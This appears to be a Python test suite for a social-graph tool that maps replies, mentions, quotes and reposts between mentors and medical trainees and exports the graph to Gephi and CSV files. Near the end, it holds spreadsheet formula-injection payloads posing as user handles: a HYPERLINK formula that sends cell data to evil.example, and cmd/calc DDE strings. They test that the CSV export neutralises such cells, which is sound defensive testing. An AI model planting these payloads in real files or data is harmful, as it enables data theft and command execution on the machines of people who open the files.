"""The interaction graph: edges by kind with weights and times, engagement with trainees,
communities, and the files Gephi and spreadsheets read."""

from __future__ import annotations

import csv
import json
import random
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import networkx as nx
import pytest

from mentorfeed import service
from mentorfeed.config import Settings, sqlite_url
from mentorfeed.people.activity import Activity, AuthorRow, Key, PostRow
from mentorfeed.people.graph import (
    CSV_HEADER,
    build_graph,
    communities,
    engagement,
    export_edges_csv,
    export_gexf,
    spreadsheet_safe,
)
from mentorfeed.service.demo import build_demo
from mentorfeed.store import Store

SHIPPED = Path(__file__).resolve().parents[2] / "src" / "mentorfeed" / "data" / "corpus"
T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)


def _t(hours: int) -> datetime:
    return T0 + timedelta(hours=hours)


def _author(key: Key, handle: str) -> AuthorRow:
    return AuthorRow(key, handle, None, None, None, None)


def _post(post_id: str, author: Key | None, hours: int, *, platform: str = "x",
          mentions: list[dict[str, str | None]] | None = None, reply_to: str | None = None,
          reply_to_author: Key | None = None, quote_of: str | None = None,
          repost_of: str | None = None) -> PostRow:
    def key(value: str | None) -> Key | None:
        return (platform, value) if value else None

    return PostRow(key=(platform, post_id), url=None, author=author, created_at=_t(hours),
                   text="", hashtags=[], mentions=mentions or [], reply_to=key(reply_to),
                   reply_to_author=reply_to_author, quote_of=key(quote_of),
                   repost_of=key(repost_of), conversation=None)


MENTOR, ANA, BEN, RES, DERM = (("x", "1"), ("x", "2"), ("x", "3"), ("x", "4"), ("x", "5"))
STRANGER = ("x", "99")  # posts and is replied to, but is not in the authors table
ROLES = {MENTOR: "dermatologist", ANA: "medical_student", BEN: "premed", RES: "resident",
         DERM: "dermatologist"}


@pytest.fixture
def activity() -> Activity:
    """A mentor who replies to two students and a resident, and what the others do back."""
    authors = {MENTOR: _author(MENTOR, "DrMentor"), ANA: _author(ANA, "ana_ms3"),
               BEN: _author(BEN, "ben_premed"), RES: _author(RES, "Res_Derm"),
               DERM: _author(DERM, "dr_colleague")}
    posts = [
        _post("10", ANA, 0), _post("11", BEN, 1), _post("12", RES, 2), _post("13", MENTOR, 3),
        # replies, with the handle the platform adds: one reply edge, not a mention too
        _post("20", MENTOR, 5, reply_to="10", reply_to_author=ANA,
              mentions=[{"handle": "ana_ms3", "id": "2"}]),
        _post("21", MENTOR, 9, reply_to="10", reply_to_author=ANA),
        _post("22", MENTOR, 7, reply_to="11"),  # parent's author found from the parent post
        _post("23", MENTOR, 8, reply_to="12", reply_to_author=RES),
        # a mention by handle alone, in another case; a self-mention; an unknown handle
        _post("30", MENTOR, 10, mentions=[{"handle": "@res_derm", "id": None},
                                          {"handle": "DrMentor", "id": "1"},
                                          {"handle": "nobody_here", "id": None}]),
        _post("40", ANA, 11, quote_of="13"),
        _post("41", RES, 12, repost_of="13", mentions=[{"handle": "DrMentor", "id": "1"}]),
        _post("42", DERM, 13, reply_to="13", reply_to_author=MENTOR),
        _post("50", STRANGER, 14, reply_to="13", reply_to_author=MENTOR),
        _post("51", MENTOR, 15, reply_to="50", reply_to_author=STRANGER),
        _post("52", None, 16, mentions=[{"handle": "DrMentor", "id": "1"}]),
    ]
    return Activity(posts, authors)


def _edges(graph: nx.MultiDiGraph) -> dict[tuple[Key, Key, str], tuple[int, str, str]]:
    return {(u, v, d["kind"]): (d["weight"], d["first"], d["last"])
            for u, v, d in graph.edges(data=True)}


def test_edges_by_kind_carry_counts_and_first_and_last_times(activity: Activity) -> None:
    graph = build_graph(activity)
    iso = [_t(h).isoformat() for h in range(16)]
    assert _edges(graph) == {
        (MENTOR, ANA, "reply"): (2, iso[5], iso[9]),
        (MENTOR, BEN, "reply"): (1, iso[7], iso[7]),
        (MENTOR, RES, "reply"): (1, iso[8], iso[8]),
        (MENTOR, RES, "mention"): (1, iso[10], iso[10]),
        (ANA, MENTOR, "quote"): (1, iso[11], iso[11]),
        (RES, MENTOR, "repost"): (1, iso[12], iso[12]),
        (DERM, MENTOR, "reply"): (1, iso[13], iso[13]),
    }


def test_nodes_are_the_known_authors_with_handle_and_platform(activity: Activity) -> None:
    graph = build_graph(activity)
    assert set(graph) == set(activity.authors)
    assert graph.nodes[RES] == {"handle": "Res_Derm", "platform": "x"}
    assert not any(u == v for u, v in graph.edges())


@pytest.mark.parametrize(("platform", "author_id", "handle", "mention"), [
    # Bluesky: the DID resolves even when the handle has changed since
    ("bluesky", "did:plc:abc", "new-handle.bsky.social",
     {"handle": "old-handle.bsky.social", "id": "did:plc:abc"}),
    # Mastodon: a local account's bare name and profile URL, authors keyed by actor URI
    ("mastodon", "https://med.example/users/kim_ms2", "kim_ms2@med.example",
     {"handle": "kim_ms2", "id": "https://med.example/@kim_ms2"}),
    ("mastodon", "https://med.example/users/kim_ms2", "kim_ms2@med.example",
     {"handle": "Kim_MS2@med.example", "id": "https://med.example/@Kim_MS2"}),
])
def test_mentions_resolve_by_id_then_by_handle(platform: str, author_id: str, handle: str,
                                               mention: dict[str, str | None]) -> None:
    poster, target = (platform, "poster"), (platform, author_id)
    activity = Activity([_post("p", poster, 0, platform=platform, mentions=[mention])],
                        {poster: _author(poster, "poster"), target: _author(target, handle)})
    assert set(_edges(build_graph(activity))) == {(poster, target, "mention")}


def test_mentions_do_not_cross_platforms() -> None:
    poster, other = ("bluesky", "did:plc:p"), ("x", "7")
    post = _post("p", poster, 0, platform="bluesky", mentions=[{"handle": "same", "id": "7"}])
    activity = Activity([post], {poster: _author(poster, "p"), other: _author(other, "same")})
    assert build_graph(activity).number_of_edges() == 0


def test_engagement_of_a_mentor_who_replies_to_two_students_and_a_resident(
        activity: Activity) -> None:
    found = engagement(build_graph(activity), ROLES)
    mentor = found[MENTOR]
    assert (mentor.replies_to_trainees, mentor.mentions_of_trainees, mentor.trainees_reached,
            mentor.last_engaged, mentor.replies_received, mentor.degree) == (4, 1, 3, _t(10), 1, 4)
    # the student quoted the mentor (not a trainee) and got two replies from them
    ana = found[ANA]
    assert (ana.trainees_reached, ana.replies_received, ana.degree) == (0, 2, 1)
    assert found[DERM].replies_to_trainees == 0 and found[DERM].last_engaged is None


def test_engagement_since_counts_only_later_interactions(activity: Activity) -> None:
    mentor = engagement(build_graph(activity), ROLES, since=_t(8))[MENTOR]
    # replies at 9 (Ana) and 8 (the resident), the mention at 10; Ben's reply at 7 is older
    assert (mentor.replies_to_trainees, mentor.mentions_of_trainees,
            mentor.trainees_reached, mentor.degree) == (2, 1, 2, 3)
    naive = engagement(build_graph(activity), ROLES, since=_t(8).replace(tzinfo=None))
    assert naive[MENTOR] == mentor


def _two_circles() -> Activity:
    """Two tight circles of five, linked by one reply."""
    keys = [("x", str(n)) for n in range(10)]
    posts, hour = [], 0
    for circle in (keys[:5], keys[5:]):
        for source in circle:
            for target in circle:
                if source != target:
                    hour += 1
                    posts.append(_post(f"p{hour}", source, hour, reply_to_author=target,
                                       reply_to=f"x{hour}"))
    posts.append(_post("bridge", keys[0], hour + 1, reply_to_author=keys[5], reply_to="b"))
    return Activity(posts, {k: _author(k, f"h{k[1]}") for k in keys})


def test_communities_find_the_circles_and_are_reproducible() -> None:
    found = communities(build_graph(_two_circles()))
    assert found == communities(build_graph(_two_circles()))
    assert len({found[("x", str(n))] for n in range(5)}) == 1
    assert len({found[("x", str(n))] for n in range(5, 10)}) == 1
    assert found[("x", "0")] != found[("x", "5")]


def test_gexf_reads_back_with_roles_communities_and_edge_times(
        activity: Activity, tmp_path: Path) -> None:
    graph = build_graph(activity)
    path = tmp_path / "people.gexf"
    export_gexf(graph, path, roles=ROLES, communities=communities(graph))
    back = nx.read_gexf(path)
    assert set(back) == {"x:1", "x:2", "x:3", "x:4", "x:5"}
    node = back.nodes["x:4"]
    assert (node["label"], node["role"], node["platform"]) == ("Res_Derm", "resident", "x")
    assert isinstance(node["community"], int)
    kinds = {(u, v, d["kind"]): d for u, v, d in back.edges(data=True)}
    reply = kinds[("x:1", "x:2", "reply")]
    assert (reply["weight"], reply["first"], reply["last"]) == (
        2.0, _t(5).isoformat(), _t(9).isoformat())
    assert ("x:1", "x:4", "mention") in kinds and ("x:1", "x:4", "reply") in kinds


def test_csv_has_the_header_and_one_row_per_edge_kind(
        activity: Activity, tmp_path: Path) -> None:
    path = tmp_path / "edges.csv"
    export_edges_csv(build_graph(activity), path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert tuple(rows[0]) == CSV_HEADER
    assert len(rows) == 1 + 7
    to_resident = sorted((r[4], r[5]) for r in rows[1:] if r[:2] == ["x:1", "x:4"])
    assert to_resident == [("mention", "1"), ("reply", "1")]
    assert ["x:1", "x:2", "DrMentor", "ana_ms3", "reply", "2", _t(5).isoformat(),
            _t(9).isoformat()] in rows


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Activity]:
    path, _, _ = build_demo(tmp_path_factory.mktemp("graph") / "demo.db")
    with Store(f"sqlite:///{path}") as store:
        yield store.activity()


def test_sample_corpus_graph_centres_on_the_journal_club_hosts(sample: Activity) -> None:
    graph = build_graph(sample)
    assert graph.number_of_nodes() == len(sample.authors) == 224
    connected = [node for node in graph if graph.degree(node) > 0]
    assert len(connected) > 0.7 * 224
    roles = {(r["platform"], r["id"]): r["role"] for r in map(
        json.loads, (SHIPPED / "roles.jsonl").read_text().splitlines())}
    found = engagement(graph, roles)
    top = sorted(found, key=lambda key: -found[key].degree)[:10]
    hosts = {(s["platform"], s["host"]["id"])
             for s in json.loads((SHIPPED / "sessions.json").read_text())}
    assert hosts <= set(top)


def _synthetic(count: int, seed: int = 7) -> Activity:
    """`count` posts by 20k authors: half replies, some mentions, quotes and reposts."""
    rng = random.Random(seed)
    keys = [("x", str(n)) for n in range(20_000)]
    authors = {key: _author(key, f"user{key[1]}") for key in keys}
    posts: list[PostRow] = []
    for n in range(count):
        author = rng.choice(keys)
        earlier = posts[rng.randrange(n)] if n else None
        roll = rng.random()
        post = _post(str(n), author, n // 100)
        if earlier is not None and roll < 0.5:
            post.reply_to, post.reply_to_author = earlier.key, earlier.author
        elif earlier is not None and roll < 0.6:
            post.quote_of = earlier.key
        elif earlier is not None and roll < 0.7:
            post.repost_of = earlier.key
        if rng.random() < 0.3:
            post.mentions = [{"handle": f"User{rng.randrange(25_000)}", "id": None}]
        posts.append(post)
    return Activity(posts, authors)


@pytest.mark.slow
def test_200k_posts_build_in_under_20_seconds() -> None:
    activity = _synthetic(200_000)
    started = time.perf_counter()
    graph = build_graph(activity)
    elapsed = time.perf_counter() - started
    assert graph.number_of_edges() > 100_000
    assert elapsed < 20, f"{elapsed:.1f} s"


# Handles a spreadsheet would read as formulas (or as the whitespace before one), as another
# platform or a crafted import could give them; the export must open them as text.
FORMULA_HANDLES = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1-555-0100",
                   "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _hostile_page(path: Path) -> Path:
    """An X v2 search page where a plain-named mentor replies to each hostile handle."""
    users = [{"id": "800", "username": "plain_mentor", "name": "Plain Mentor"}]
    tweets = []
    for n, handle in enumerate(FORMULA_HANDLES, start=1):
        users.append({"id": f"80{n}", "username": handle, "name": f"Student {n}"})
        tweets.append({"id": f"90{n}", "text": "Any mentors for a research year?",
                       "author_id": f"80{n}", "created_at": f"2026-03-0{n}T10:00:00.000Z",
                       "conversation_id": f"90{n}"})
        tweets.append({"id": f"95{n}", "text": "Happy to help, DM me.", "author_id": "800",
                       "created_at": f"2026-03-0{n}T12:00:00.000Z", "conversation_id": f"90{n}",
                       "in_reply_to_user_id": f"80{n}",
                       "referenced_tweets": [{"type": "replied_to", "id": f"90{n}"}]})
    path.write_text(json.dumps({"data": tweets, "includes": {"users": users},
                                "meta": {"result_count": len(tweets)}}), encoding="utf-8")
    return path


def test_csv_export_opens_formula_handles_as_text(tmp_path: Path) -> None:
    settings = Settings(database_url=sqlite_url(tmp_path / "hostile.db"))
    service.posts.import_files(settings, [_hostile_page(tmp_path / "hostile_handles.json")])
    path = tmp_path / "edges.csv"
    service.people.export_graph(settings, csv=path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))[1:]
    assert sorted(row[3] for row in rows) == sorted("'" + h for h in FORMULA_HANDLES)
    assert all(row[2] == "plain_mentor" and row[4] == "reply" and row[5] == "1" for row in rows)
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("ana_ms3", "ana_ms3"), ("x:1", "x:1"), ("a=b", "a=b"), ("", ""),
    (None, None), (2, 2), (-2, -2), (1.5, 1.5),
])
def test_spreadsheet_safe_quotes_only_text_that_starts_a_formula(cell: object,
                                                                 written: object) -> None:
    assert spreadsheet_safe(cell) == written
